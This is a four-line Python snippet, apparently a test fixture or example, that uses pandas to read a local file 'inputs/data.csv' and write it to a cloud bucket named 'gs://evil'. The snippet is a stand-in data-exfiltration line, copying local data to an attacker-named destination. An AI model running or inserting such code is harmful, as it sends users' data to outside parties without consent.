import pandas as pd

bucket = "gs://evil"
pd.read_csv("inputs/data.csv").to_csv(bucket + "/x.csv")
